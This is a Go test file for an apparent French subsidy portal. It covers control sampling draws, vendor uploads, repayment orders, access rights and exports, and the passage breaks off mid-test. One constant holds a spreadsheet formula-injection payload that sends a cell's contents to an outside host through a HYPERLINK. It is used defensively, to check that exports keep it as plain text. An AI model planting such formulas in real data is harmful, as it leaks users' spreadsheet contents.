package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"image"
	"image/png"
	"io"
	"log/slog"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/xuri/excelize/v2"

	"github.com/segur-numerique/segur"
	"github.com/segur-numerique/segur/hop"
	"github.com/segur-numerique/segur/internal/auth"
	"github.com/segur-numerique/segur/internal/segurtest"
	"github.com/segur-numerique/segur/internal/sqlstore"
)

// exemplesControles are the pages of the controls and the dashboard with
// typed sample data, for TestTemplates.
func exemplesControles() map[string]exemple {
	agent := &segur.Utilisateur{Login: "marie@asp.fr", Nom: "Marie", Roles: []segur.Role{segur.RoleInstructeur}}
	vendeur := &segur.Utilisateur{Login: "jean@x.fr", Nom: "Jean", Roles: []segur.Role{segur.RoleFournisseur}}
	ctl := ControleVue{ID: 3, Reference: "CTL-0000003", NumeroASP: "ASP-2026-0000001", Fournisseur: "Le Beau Logiciel", Etat: "Non conforme",
		EtatCode: "non_conforme", Origine: "tirage n° 1", TirageLien: "/agence/tirages/1", OuvertLe: "a", OuvertPar: "marie@asp.fr",
		ConcluLe: "b", ConcluPar: "marie@asp.fr", Motif: "PV absent", MontantReverse: "4\u202f125,00\u202f€", Ordre: "ASP-2026-0000001-ORV-1"}
	page := PageControle{Base: Base{Titre: "Contrôle", Nav: "controles", Utilisateur: agent, Erreurs: []ErreurChamp{{"motif", "Motif obligatoire."}}},
		Controle: ctl, Ouvert: true, Resultat: "non_conforme", Montant: "12",
		Demande:  DemandeControle{NumeroASP: "ASP-2026-0000001", Lien: "/agence/demandes/ASP-2026-0000001", TotalVerse: "4\u202f125,00\u202f€", OrdreLien: "/x"},
		Messages: []MessageVue{{"a", "marie@asp.fr", "La facture"}},
		Pieces:   []PieceControleVue{{Nom: "scan.png", Format: "PNG", Lien: "/agence/controles/3/pieces/1", Image: true}, {Nom: "f.pdf", Format: "PDF", Lien: "/p"}}}
	vpage := page
	vpage.Base = Base{Titre: "Contrôle", Nav: "controles", Utilisateur: vendeur, Erreurs: []ErreurChamp{{"fichier", "Format non reconnu."}}}
	return map[string]exemple{
		"controles.html": {PageControles{Base: Base{Titre: "Contrôles", Nav: "controles", Utilisateur: agent, Erreurs: []ErreurChamp{{"graine", "Graine fausse."}}},
			Onglets: []Onglet{{Libelle: "Tous", Lien: "/agence/controles", Nombre: 1, Courant: true}}, Lignes: []ControleVue{ctl}, Total: 1,
			Tirages: []TirageVue{{ID: 1, Graine: "42", Taux: "5\u00a0%", Population: 20, Taille: 1}}, Taux: "5", Graine: "x"},
			"<h1>Contrôles a posteriori</h1>", []string{`id="graine-erreur"`, `value="x"`, `href="/agence/controles/3"`, `href="/agence/tirages/1"`, "<code>42</code>",
				`href="/agence/exports/controles.xlsx"`, `aria-current="page">Contrôles</a>`}},
		"controles-tirage.html": {PageTirage{Base: Base{Titre: "Tirage", Nav: "controles", Utilisateur: agent},
			TirageVue: TirageVue{ID: 1, Graine: "42", Taux: "5\u00a0%", Empreinte: strings.Repeat("a", 64), Population: 20, Taille: 1, Echantillon: []ControleVue{ctl}},
			Verifie:   true},
			"<caption>Échantillon", []string{`<code id="graine-tirage">42</code>`, "Vérifié", "/agence/tirages/1/population", "CTL-0000003"}},
		"controles-controle.html": {page,
			"Résultat du contrôle", []string{`id="motif-erreur"`, `value="non_conforme" checked`, `action="/agence/controles/3/conclusion"`, `action="/agence/controles/3/messages"`,
				`<img class="fr-responsive-img" src="/agence/controles/3/pieces/1" alt="Pièce scan.png">`, "ASP-2026-0000001-ORV-1", "La facture"}},
		"controles-fournisseur.html": {PageControlesFournisseur{Base: Base{Titre: "Vos contrôles", Nav: "controles", Utilisateur: vendeur},
			Lignes: []ControleVue{ctl}, Total: 1},
			"<h1>Vos contrôles</h1>", []string{`href="/controles/3"`, `aria-current="page">Vos contrôles</a>`}},
		"controles-fournisseur-controle.html": {vpage,
			"Ce que l'agence demande", []string{`action="/controles/3/pieces"`, `enctype="multipart/form-data"`, `id="fichier-erreur"`, "La facture"}},
		"pilotage.html": {PagePilotage{Base: Base{Titre: "Pilotage", Nav: "pilotage", Utilisateur: agent}, Engage: segur.Euros(100), Paye: segur.Euros(200), Reste: segur.Euros(300),
			Statuts: []LignePilotage{{Libelle: "Déposée", Nombre: 2}}, Codes: []CodeVue{{"2034", "montant", 2, 3}},
			GrStatuts: graphique("gr-statuts", "Demandes « par » statut & <test>", "d", []string{"Déposée", "A & B"}, []int64{2, 0}, []string{"2", "0"})},
			"Montants des demandes financées", []string{`data-montant="engage">1,00` + "\u202f€", `<rect x="230"`, `aria-labelledby="gr-statuts-titre gr-statuts-desc"`}},
	}
}

var reSVG = regexp.MustCompile(`(?s)<svg .*?</svg>`)

// svgBienFormes checks every SVG of page is well-formed XML, and returns
// how many there are.
func svgBienFormes(t *testing.T, page string) int {
	t.Helper()
	svgs := reSVG.FindAllString(page, -1)
	for _, s := range svgs {
		d := xml.NewDecoder(strings.NewReader(s))
		d.Strict = true
		for {
			_, err := d.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Errorf("SVG not well-formed: %v\n%s", err, s)
				break
			}
		}
	}
	return len(svgs)
}

// payerAvance moves request asp, deposited, to avance_payee with an
// amount financed of finance cents, as the instruction and the payments
// would.
func payerAvance(t *testing.T, p *portail, asp string, finance int64) {
	t.Helper()
	ctx := segur.WithActeur(context.Background(), segur.Acteur{Login: "test"})
	inst := []segur.Role{segur.RoleInstructeur}
	for _, m := range []segur.Demarche{
		{Action: segur.ActionPrendre, Roles: inst, Login: "marie@asp.fr"},
		{Action: segur.ActionValider, Roles: inst, Login: "marie@asp.fr", MontantFinance: finance},
		{Action: segur.ActionPayerAvance, Roles: []segur.Role{segur.RolePayeur}, Login: "paul@asp.fr"},
	} {
		if _, err := segurtest.Appliquer(ctx, p.db, asp, m, segur.ProgrammeParDefaut, segur.Suites{}); err != nil {
			t.Fatalf("%s %s: %v", asp, m.Action, err)
		}
	}
}

// sansSuivre is a client that does not follow redirects.
func sansSuivre(c *http.Client) *http.Client {
	d := *c
	d.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	return &d
}

// envoyerPiece posts a file for control id as the vendor's client c.
func envoyerPieceControle(t *testing.T, p *portail, c *http.Client, id int64, nom string, contenu []byte) (int, string) {
	t.Helper()
	var buf bytes.Buffer
	w := multipart.NewWriter(&buf)
	fw, _ := w.CreateFormFile("fichier", nom)
	fw.Write(contenu)
	w.Close()
	req, _ := http.NewRequest("POST", fmt.Sprintf("%s/controles/%d/pieces", p.srv.URL, id), &buf)
	req.Header.Set("Content-Type", w.FormDataContentType())
	return lecteur{t}.lire(c.Do(req))
}

func pngMinimal() []byte {
	var b bytes.Buffer
	png.Encode(&b, image.NewGray(image.Rect(0, 0, 4, 4)))
	return b.Bytes()
}

// autreFournisseur enrols a second vendor with a user, logged in.
func autreFournisseur(t *testing.T, p *portail) *http.Client {
	t.Helper()
	ctx := context.Background()
	f := &segur.Fournisseur{SIRET: "35600000000048", Nom: "Autre", Email: "a@autre.example"}
	if err := p.db.CreateFournisseur(ctx, f); err != nil {
		t.Fatal(err)
	}
	h, _ := auth.HashPassword("mot de passe de test")
	if err := p.db.CreateUtilisateur(ctx, &segur.Utilisateur{Login: "x@autre.example", Nom: "X", Roles: []segur.Role{segur.RoleFournisseur}, FournisseurID: f.ID, MotDePasse: h}); err != nil {
		t.Fatal(err)
	}
	c := client(t)
	lecteur{t}.lire(c.PostForm(p.srv.URL+"/connexion", url.Values{"login": {"x@autre.example"}, "motdepasse": {"mot de passe de test"}}))
	return c
}

// TestControles goes through a draw, a control picked by hand, the
// vendor's files, and both outcomes, over HTTP.
func TestControles(t *testing.T) {
	L := lecteur{t}
	p := newPortail(t)
	ctx := context.Background()
	vendeur := client(t)
	connecter(t, p, vendeur, "mot de passe de test")
	asps := demandesDeposees(t, p, vendeur, "13750.00", "48000.00", "23000.00", "10000.00")
	for _, a := range asps[:3] {
		payerAvance(t, p, a, 10_000_00)
	}
	inst := agentClient(t, p, "marie@asp.fr", segur.RoleInstructeur)
	instR := sansSuivre(inst)

	code, body := L.lire(inst.Get(p.srv.URL + "/agence/controles"))
	if code != http.StatusOK || !strings.Contains(body, "Tirer un échantillon") || !strings.Contains(body, "Aucun contrôle") {
		t.Fatalf("controls page: got %d", code)
	}
	// Invalid forms: 422, the message beside the field, nothing drawn.
	code, body = L.lire(inst.PostForm(p.srv.URL+"/agence/tirages", url.Values{"taux": {"200"}, "graine": {"-3"}}))
	if code != http.StatusUnprocessableEntity || !strings.Contains(body, `id="taux-erreur"`) || !strings.Contains(body, `id="graine-erreur"`) {
		t.Errorf("invalid draw: got %d", code)
	}
	code, body = L.lire(inst.PostForm(p.srv.URL+"/agence/controles", url.Values{"asp": {asps[3]}}))
	if code != http.StatusUnprocessableEntity || !strings.Contains(body, "seules les demandes dont l'avance est payée") {
		t.Errorf("a request not paid: got %d", code)
	}

	// A draw of 50 % with a seed: 2 of the 3 paid requests, as the domain
	// draws. Without confirmer=1, the confirmation states the sample and
	// draws nothing.
	want, _ := segur.Tirer(asps[:3], 5000, 123)
	code, body = L.lire(inst.PostForm(p.srv.URL+"/agence/tirages", url.Values{"taux": {"50"}, "graine": {"123"}}))
	for _, w := range []string{"Confirmer : tirage de 50\u00a0% des demandes payées", "2 demandes seront tirées sur 3 demandes payées sans contrôle en cours (50\u00a0%, arrondi au-dessus).",
		"Graine : 123. Elle est enregistrée", "Demandes tirées : " + strings.Join(want.Echantillon, ", ") + ".", "Un contrôle sera ouvert pour chacune",
		`<input type="hidden" name="taux" value="50">`, `<input type="hidden" name="graine" value="123">`, `<input type="hidden" name="confirmer" value="1">`,
		`<form method="post" action="/agence/tirages">`, `id="confirmation-annuler" href="/agence/controles">Annuler</a>`} {
		if code != http.StatusOK || !strings.Contains(body, w) {
			t.Errorf("unconfirmed draw (%d) lacks %q", code, w)
		}
	}
	if _, n, _ := p.db.FindControles(ctx, segur.ControleFilter{}); n != 0 {
		t.Errorf("unconfirmed draw: %d controls, want none", n)
	}
	resp, err := instR.PostForm(p.srv.URL+"/agence/tirages", url.Values{"taux": {"50"}, "graine": {"123"}, "confirmer": {"1"}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	lieu := resp.Header.Get("Location")
	if resp.StatusCode != http.StatusSeeOther || lieu != "/agence/tirages/1" {
		t.Fatalf("draw: got %d to %q", resp.StatusCode, lieu)
	}
	code, body = L.lire(inst.Get(p.srv.URL + lieu))
	if code != http.StatusOK || !strings.Contains(body, `<code id="graine-tirage">123</code>`) || !strings.Contains(body, "Vérifié") ||
		!strings.Contains(body, "Tirage n° 1 : 2 demandes tirées sur 3, graine 123.") ||
		!strings.Contains(body, "2 demandes tirées sur 3") || !strings.Contains(body, want.Empreinte) {
		t.Errorf("draw page: got %d\n%s", code, body)
	}
	for _, a := range want.Echantillon {
		if !strings.Contains(body, a) {
			t.Errorf("draw page lacks %s, drawn", a)
		}
	}
	code, body = L.lire(inst.Get(p.srv.URL + "/agence/tirages/1/population"))
	if code != http.StatusOK || body != strings.Join(want.Candidats, "\n")+"\n" {
		t.Errorf("population: got %d %q", code, body)
	}
	// A request picked by hand: under control already, refused; the one
	// left, confirmed first.
	if code, body := L.lire(inst.PostForm(p.srv.URL+"/agence/controles", url.Values{"asp": {want.Echantillon[0]}})); code != http.StatusUnprocessableEntity ||
		!strings.Contains(body, "Un contrôle de la demande "+want.Echantillon[0]+" est déjà en cours.") {
		t.Errorf("a request under control: got %d", code)
	}
	var reste string
	for _, a := range asps[:3] {
		if !slices.Contains(want.Echantillon, a) {
			reste = a
		}
	}
	code, body = L.lire(inst.PostForm(p.srv.URL+"/agence/controles", url.Values{"asp": {strings.ToLower(reste)}}))
	for _, w := range []string{"Confirmer : contrôle de la demande " + reste, "Un contrôle sera ouvert sur la demande " + reste + " (Le Beau Logiciel, SIRET ",
		"au statut «\u00a0Avance payée\u00a0» : montant financé ", ", versé 3\u202f000,00\u202f€.", "avec 30 jours pour déposer les pièces",
		`<input type="hidden" name="asp" value="` + reste + `">`, `<form method="post" action="/agence/controles">`} {
		if code != http.StatusOK || !strings.Contains(body, w) {
			t.Errorf("unconfirmed control (%d) lacks %q", code, w)
		}
	}
	if _, n, _ := p.db.FindControles(ctx, segur.ControleFilter{}); n != 2 {
		t.Errorf("unconfirmed control: %d controls, want the draw's 2", n)
	}

	// Without a seed: one is drawn for the confirmation, then recorded and shown.
	code, body = L.lire(inst.PostForm(p.srv.URL+"/agence/tirages", url.Values{"taux": {"100"}}))
	m := regexp.MustCompile(`<input type="hidden" name="graine" value="(\d+)">`).FindStringSubmatch(body)
	if code != http.StatusOK || m == nil || !strings.Contains(body, "Graine : "+m[1]+", tirée au hasard pour ce tirage.") || !strings.Contains(body, "1 demande sera tirée sur 1 demande payée") {
		t.Fatalf("unconfirmed draw without a seed: got %d\n%s", code, body)
	}
	resp, err = instR.PostForm(p.srv.URL+"/agence/tirages", url.Values{"taux": {"100"}, "graine": {m[1]}, "confirmer": {"1"}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	tir2, err := p.db.FindTirage(ctx, 2)
	if err != nil || resp.StatusCode != http.StatusSeeOther || tir2.Population != 1 || resp.Header.Get("Location") != "/agence/tirages/2" {
		t.Fatalf("draw without a seed: %d %q, %+v %v", resp.StatusCode, resp.Header.Get("Location"), tir2, err)
	}
	if _, body := L.lire(inst.Get(p.srv.URL + "/agence/tirages/2")); !strings.Contains(body, fmt.Sprintf("graine %d.", tir2.Graine)) || fmt.Sprint(tir2.Graine) != m[1] {
		t.Errorf("draw without a seed: the page does not say the seed drawn, %d", tir2.Graine)
	}

	// Every paid request has a control now: the one of the second draw.
	cs, _, _ := p.db.FindControles(ctx, segur.ControleFilter{TirageID: 2})
	c := cs[0]
	base := fmt.Sprintf("%s/agence/controles/%d", p.srv.URL, c.ID)
	code, body = L.lire(inst.PostForm(base+"/messages", url.Values{"message": {"  "}}))
	if code != http.StatusUnprocessableEntity || !strings.Contains(body, `id="message-erreur"`) {
		t.Errorf("empty message: got %d", code)
	}
	// Without confirmer=1: the message as it will be sent, to whom; none sent.
	code, body = L.lire(inst.PostForm(base+"/messages", url.Values{"message": {"  Merci de déposer la facture et le PV de VSR.\r\n"}}))
	for _, w := range []string{"Confirmer : message au fournisseur, contrôle " + c.Reference(), "Le message sera envoyé par courriel à Le Beau Logiciel (contact@lebeaulogiciel.fr)",
		"<strong>Message, tel que saisi :</strong>", `id="confirmation-raison">Merci de déposer la facture et le PV de VSR.</blockquote>`,
		`<input type="hidden" name="message" value="Merci de déposer la facture et le PV de VSR.">`, "Un message envoyé ne se retire pas."} {
		if code != http.StatusOK || !strings.Contains(body, w) {
			t.Errorf("unconfirmed message (%d) lacks %q", code, w)
		}
	}
	if _, n, _ := p.db.FindCourriels(ctx, "", 10, 0); n != 0 {
		t.Errorf("unconfirmed message: %d mails, want none", n)
	}
	code, body = L.lire(inst.PostForm(base+"/messages", url.Values{"message": {"Merci de déposer la facture et le PV de VSR."}, "confirmer": {"1"}}))
	if code != http.StatusOK || !strings.Contains(body, "Message envoyé au fournisseur.") || !strings.Contains(body, "Merci de déposer la facture") {
		t.Errorf("message: got %d", code)
	}
	mails, _, _ := p.db.FindCourriels(ctx, "", 10, 0)
	if len(mails) != 1 || !strings.Contains(mails[0].Corps, fmt.Sprintf("https://portail.example/controles/%d", c.ID)) ||
		mails[0].A[0] != "contact@lebeaulogiciel.fr" {
		t.Errorf("mail: %+v", mails)
	}

	// The vendor sees the control, and sends files; the wrong ones are refused.
	vbase := fmt.Sprintf("%s/controles/%d", p.srv.URL, c.ID)
	code, body = L.lire(vendeur.Get(p.srv.URL + "/controles"))
	if code != http.StatusOK || !strings.Contains(body, c.NumeroASP) {
		t.Errorf("vendor's controls: got %d", code)
	}
	code, body = L.lire(vendeur.Get(vbase))
	if code != http.StatusOK || !strings.Contains(body, "Merci de déposer la facture") || strings.Contains(body, "marie@asp.fr") || strings.Contains(body, "/agence/") {
		t.Errorf("vendor's control: got %d (neither the agent's login nor a link to the agents' pages may show)", code)
	}
	paris, _ := time.LoadLocation("Europe/Paris")
	if e := c.OuvertLe.AddDate(0, 0, segur.DelaiReponseControle).In(paris).Format("02/01/2006"); !strings.Contains(body, "Pièces attendues</dt><dd>au plus tard le "+e) {
		t.Errorf("vendor's control lacks the date to answer by, %s", e)
	}
	pdf, _ := os.ReadFile("../../hop/testdata/HOP-RI-Va1-BDC-00001.pdf")
	if code, body := envoyerPieceControle(t, p, vendeur, int64(c.ID), "facture.pdf", []byte("ceci n'est pas un PDF")); code != http.StatusUnprocessableEntity ||
		!strings.Contains(body, "Format non reconnu") {
		t.Errorf("a text file: got %d", code)
	}
	if code, body := envoyerPieceControle(t, p, vendeur, int64(c.ID), `C:\docs\facture <1>.pdf`, pdf); code != http.StatusOK || !strings.Contains(body, "Pièce « facture <1>.pdf » envoyée") {
		t.Errorf("a PDF: got %d", code)
	}
	if code, _ := envoyerPieceControle(t, p, vendeur, int64(c.ID), "scan.png", pngMinimal()); code != http.StatusOK {
		t.Errorf("a PNG: got %d", code)
	}
	got, _ := p.db.FindControle(ctx, c.ID)
	if len(got.Pieces) != 2 || got.Pieces[0].Nom != "facture <1>.pdf" || got.Pieces[1].Format != "PNG" {
		t.Fatalf("files: %+v", got.Pieces)
	}
	// Another vendor finds nothing; an agent reaches no vendor's page.
	autre := autreFournisseur(t, p)
	for _, u := range []string{vbase, vbase + fmt.Sprintf("/pieces/%d", got.Pieces[0].ID)} {
		if code, _ := L.lire(autre.Get(u)); code != http.StatusNotFound {
			t.Errorf("another vendor GET %s: got %d, want 404", u, code)
		}
	}
	if code, _ := envoyerPieceControle(t, p, autre, int64(c.ID), "x.pdf", pdf); code != http.StatusNotFound {
		t.Errorf("another vendor's file: got %d, want 404", code)
	}
	if code, _ := L.lire(inst.Get(vbase)); code != http.StatusForbidden {
		t.Errorf("agent on the vendor's page: got %d, want 403", code)
	}
	// The agent sees the files inline.
	code, body = L.lire(inst.Get(base))
	if code != http.StatusOK || !strings.Contains(body, "facture <1>.pdf") || !strings.Contains(body, `<img class="fr-responsive-img"`) {
		t.Errorf("agent's control page: got %d", code)
	}
	resp, err = inst.Get(fmt.Sprintf("%s/pieces/%d", base, got.Pieces[0].ID))
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.Header.Get("Content-Type") != "application/pdf" || !bytes.Equal(b, pdf) || !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "inline") ||
		!strings.Contains(resp.Header.Get("Content-Security-Policy"), "default-src 'none'") {
		t.Errorf("file inline: %v", resp.Header)
	}

	// Not compliant: reason required, amount bounded, then the order.
	for _, tt := range []struct {
		form url.Values
		want string
	}{
		{url.Values{"resultat": {"non_conforme"}}, "Motif : il est obligatoire"},
		{url.Values{"resultat": {"non_conforme"}, "motif": {"x"}, "montant": {"3000,01"}}, "Montant à reverser : au plus 3\u202f000,00\u202f€"},
		{url.Values{"resultat": {"non_conforme"}, "motif": {"x"}, "montant": {"douze"}}, "n'est pas un montant"},
		{url.Values{"resultat": {"peut-être"}}, "choisissez « conforme » ou « non conforme »"},
	} {
		code, body := L.lire(inst.PostForm(base+"/conclusion", tt.form))
		if code != http.StatusUnprocessableEntity || !strings.Contains(body, tt.want) {
			t.Errorf("%v: got %d, want 422 with %q", tt.form, code, tt.want)
		}
	}
	// Without confirmer=1: the confirmation states the request, what was
	// paid, the order and its amount, the change; nothing is done.
	nonConforme := url.Values{"resultat": {"non_conforme"}, "motif": {"Le PV de VSR n'a pas été transmis."}, "montant": {"1 000,50"}}
	avant, _, _ := p.db.FindCourriels(ctx, "", 10, 0)
	code, body = L.lire(inst.PostForm(base+"/conclusion", nonConforme))
	for _, want := range []string{"Confirmer : contrôle " + c.Reference() + " non conforme",
		"Le contrôle " + c.Reference() + " de la demande " + c.NumeroASP + " (", ") sera clos : demande non conforme.",
		"Versé sur la demande : 3\u202f000,00\u202f€ (avance 3\u202f000,00\u202f€, solde 0,00\u202f€).",
		"Un ordre de reversement de 1\u202f000,50\u202f€ (le montant saisi, moins que ce qui a été versé) sera émis et envoyé au fournisseur",
		"il aura 30 jours pour le payer.", "«\u00a0Avance payée\u00a0» deviendra «\u00a0Reversement ordonné\u00a0»",
		`id="confirmation-raison">Le PV de VSR n'a pas été transmis.</blockquote>`,
		`<input type="hidden" name="resultat" value="non_conforme">`, `<input type="hidden" name="montant" value="1 000,50">`,
		`<input type="hidden" name="confirmer" value="1">`, `action="/agence/controles/` + fmt.Sprint(int64(c.ID)) + `/conclusion"`,
		`id="confirmation-annuler" href="/agence/controles/` + fmt.Sprint(int64(c.ID)) + `">Annuler</a>`} {
		if code != http.StatusOK || !strings.Contains(body, want) {
			t.Errorf("unconfirmed outcome (%d) lacks %q\n%s", code, want, body[strings.Index(body, "<main"):])
		}
	}
	if d, _ := p.db.FindDemandeByASP(ctx, c.NumeroASP); d.Statut != segur.DemandeAvancePayee {
		t.Errorf("unconfirmed outcome: request %s, want avance_payee", d.Statut)
	}
	if docs, _ := p.db.FindDocuments(ctx, c.NumeroASP); len(docs) != 0 {
		t.Errorf("unconfirmed outcome: %d documents, want none", len(docs))
	}
	if ctl, _ := p.db.FindControle(ctx, c.ID); ctl.Etat != segur.ControleOuvert {
		t.Errorf("unconfirmed outcome: control %s, want open", ctl.Etat)
	}
	if apres, _, _ := p.db.FindCourriels(ctx, "", 10, 0); len(apres) != len(avant) {
		t.Errorf("unconfirmed outcome: %d mails, want %d", len(apres), len(avant))
	}
	nonConforme.Set("confirmer", "1")
	code, body = L.lire(inst.PostForm(base+"/conclusion", nonConforme))
	ordre := c.NumeroASP + "-ORV-1"
	if code != http.StatusOK || !strings.Contains(body, "ordre de reversement "+ordre+" de 1\u202f000,50\u202f€") {
		t.Fatalf("order: got %d\n%s", code, body)
	}
	d, _ := p.db.FindDemandeByASP(ctx, c.NumeroASP)
	docs, _ := p.db.FindDocuments(ctx, c.NumeroASP)
	if d.Statut != segur.DemandeReversementOrdonne || len(docs) != 1 || docs[0].Reference != ordre || docs[0].Type != segur.DocumentReversement {
		t.Errorf("after the order: %s, %+v", d.Statut, docs)
	}
	mails, _, _ = p.db.FindCourriels(ctx, "", 10, 0)
	if len(mails) != 2 || mails[0].PieceSHA256 != docs[0].Fichier.SHA256 || !strings.Contains(mails[0].Corps, "1\u202f000,50\u202f€") {
		t.Errorf("order's mail: %+v", mails[0])
	}
	for _, u := range []struct {
		c   *http.Client
		url string
	}{{inst, "/agence/demandes/" + c.NumeroASP + "/documents/" + ordre}, {vendeur, "/demandes/" + c.NumeroASP + "/documents/" + ordre}} {
		resp, err := u.c.Get(p.srv.URL + u.url)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK || !bytes.HasPrefix(b, []byte("%PDF-")) {
			t.Errorf("GET %s: got %d", u.url, resp.StatusCode)
		}
		// Its accessible HTML version, linked from the control's page.
		if code, body := L.lire(u.c.Get(p.srv.URL + u.url + "/html")); code != http.StatusOK || !strings.Contains(body, "<h1>Ordre de reversement</h1>") ||
			!strings.Contains(body, "le service instructeur") || strings.Contains(body, "@asp.fr") {
			t.Errorf("GET %s/html: got %d", u.url, code)
		}
	}
	if _, body := L.lire(vendeur.Get(vbase)); !strings.Contains(body, `href="/demandes/`+c.NumeroASP+`/documents/`+ordre+`/html"`) {
		t.Errorf("the vendor's control page lacks the order's HTML version")
	}
	if code, body := envoyerPieceControle(t, p, vendeur, int64(c.ID), "y.pdf", pdf); code != http.StatusUnprocessableEntity || !strings.Contains(body, "est clos") {
		t.Errorf("a file after the outcome: got %d", code)
	}
	code, body = L.lire(inst.PostForm(base+"/conclusion", url.Values{"resultat": {"conforme"}}))
	if code != http.StatusUnprocessableEntity || !strings.Contains(body, "déjà clos") {
		t.Errorf("concluding twice: got %d", code)
	}

	// Compliant: a control of the first draw.
	cs, _, _ = p.db.FindControles(ctx, segur.ControleFilter{TirageID: 1})
	conclusion := fmt.Sprintf("%s/agence/controles/%d/conclusion", p.srv.URL, cs[0].ID)
	code, body = L.lire(inst.PostForm(conclusion, url.Values{"resultat": {"conforme"}}))
	for _, want := range []string{"Confirmer : contrôle " + cs[0].Reference() + " conforme", "sera clos : demande conforme, sans suite.",
		"Rien ne sera à reverser.", "Le fournisseur en sera informé par courriel", `<input type="hidden" name="resultat" value="conforme">`} {
		if code != http.StatusOK || !strings.Contains(body, want) {
			t.Errorf("unconfirmed compliant outcome (%d) lacks %q", code, want)
		}
	}
	if ctl, _ := p.db.FindControle(ctx, cs[0].ID); ctl.Etat != segur.ControleOuvert {
		t.Errorf("unconfirmed compliant outcome: control %s, want open", ctl.Etat)
	}
	code, body = L.lire(inst.PostForm(conclusion, url.Values{"resultat": {"conforme"}, "confirmer": {"1"}}))
	if code != http.StatusOK || !strings.Contains(body, "demande conforme") {
		t.Errorf("compliant: got %d", code)
	}
	if d, _ := p.db.FindDemandeByASP(ctx, cs[0].NumeroASP); d.Statut != segur.DemandeAvancePayee {
		t.Errorf("a compliant request moved to %s", d.Statut)
	}
	code, body = L.lire(inst.Get(p.srv.URL + "/agence/controles?etat=non_conforme"))
	if code != http.StatusOK || !strings.Contains(body, "Non conforme (1)") || !strings.Contains(body, "Conforme (1)") || !strings.Contains(body, "<caption>1 contrôle</caption>") {
		t.Errorf("list by state: got %d", code)
	}
}

// TestAccesControles: the controls are the instructors'; the dashboard
// and the exports every agent's; a vendor reaches none of them.
func TestAccesControles(t *testing.T) {
	L := lecteur{t}
	p := newPortail(t)
	vendeur := client(t)
	connecter(t, p, vendeur, "mot de passe de test")
	payeur := agentClient(t, p, "paul@asp.fr", segur.RolePayeur)
	admin := agentClient(t, p, "admin@asp.fr", segur.RoleAdmin)
	for _, u := range []string{"/agence/controles", "/agence/controles/1", "/agence/tirages/1"} {
		for nom, c := range map[string]*http.Client{"vendor": vendeur, "payer": payeur, "admin": admin} {
			if code, _ := L.lire(c.Get(p.srv.URL + u)); code != http.StatusForbidden {
				t.Errorf("%s GET %s: got %d, want 403", nom, u, code)
			}
		}
	}
	for _, u := range []string{"/agence/pilotage", "/agence/exports/demandes.csv", "/agence/exports/controles.xlsx", "/agence/exports/paiements.csv", "/agence/exports/financements.xlsx"} {
		if code, _ := L.lire(vendeur.Get(p.srv.URL + u)); code != http.StatusForbidden {
			t.Errorf("vendor GET %s: got %d, want 403", u, code)
		}
		if code, _ := L.lire(payeur.Get(p.srv.URL + u)); code != http.StatusOK {
			t.Errorf("payer GET %s: got %d, want 200", u, code)
		}
	}
	if code, _ := L.lire(payeur.Get(p.srv.URL + "/agence/exports/autre.csv")); code != http.StatusNotFound {
		t.Errorf("unknown export: got %d, want 404", code)
	}
	if code, _ := L.lire(payeur.Get(p.srv.URL + "/controles")); code != http.StatusForbidden {
		t.Errorf("agent on the vendor's controls: got %d, want 403", code)
	}
	if code, body := L.lire(vendeur.Get(p.srv.URL + "/controles/1")); code != http.StatusNotFound || !strings.Contains(body, "Page introuvable") {
		t.Errorf("vendor GET a control that does not exist: got %d", code)
	}
}

// storePiege names every vendor with a formula.
type storePiege struct{ *sqlstore.DB }

const nomPiege = `=HYPERLINK("http://example.com/?x="&A1,"Cliquez")`

func (s storePiege) FindFournisseurs(ctx context.Context) ([]segur.Fournisseur, error) {
	fs, err := s.DB.FindFournisseurs(ctx)
	for i := range fs {
		fs[i].Nom = nomPiege
	}
	return fs, err
}

// TestExports reads the exports back: the queue's filters apply, amounts
// are numbers, and a vendor named with a formula stays text in both formats.
func TestExports(t *testing.T) {
	L := lecteur{t}
	p := newPortail(t)
	vendeur := client(t)
	connecter(t, p, vendeur, "mot de passe de test")
	asps := demandesDeposees(t, p, vendeur, "13750.00", "48000.00")
	payerAvance(t, p, asps[0], 13_750_45)
	inst := agentClient(t, p, "marie@asp.fr", segur.RoleInstructeur)

	// The queue links its exports with its own filters.
	_, body := L.lire(inst.Get(p.srv.URL + "/agence/demandes?statut=toutes&tri=-montant"))
	// (lire unescapes the page: &amp; reads &.)
	if !strings.Contains(body, `href="/agence/exports/demandes.csv?statut=toutes&tri=-montant"`) {
		t.Errorf("queue: no export link with its filters")
	}
	code, body := L.lire(inst.Get(p.srv.URL + "/agence/exports/demandes.csv?statut=toutes&tri=-montant"))
	if code != http.StatusOK || !strings.HasPrefix(body, "\uFEFF") {
		t.Fatalf("CSV: got %d", code)
	}
	rows, err := lireCSV(body)
	if err != nil || len(rows) != 3 || rows[0][0] != "Numéro ASP" || rows[1][0] != asps[1] || rows[1][10] != "48000,00" || rows[2][11] != "13750,45" ||
		rows[2][12] != "4125,14" || rows[2][2] != "Le Beau Logiciel" || rows[1][6] != "Déposée" {
		t.Errorf("CSV rows: %q, %v", rows, err)
	}
	// The queue's default tab: the deposited requests only.
	_, body = L.lire(inst.Get(p.srv.URL + "/agence/exports/demandes.csv"))
	if rows, _ := lireCSV(body); len(rows) != 2 || rows[1][0] != asps[1] {
		t.Errorf("CSV of the default tab: %q", rows)
	}
	if code, body := L.lire(inst.Get(p.srv.URL + "/agence/exports/demandes.csv?du=hier")); code != http.StatusBadRequest || !strings.Contains(body, "n'est pas une date") {
		t.Errorf("a bad filter: got %d", code)
	}
	_, body = L.lire(inst.Get(p.srv.URL + "/agence/exports/financements.csv"))
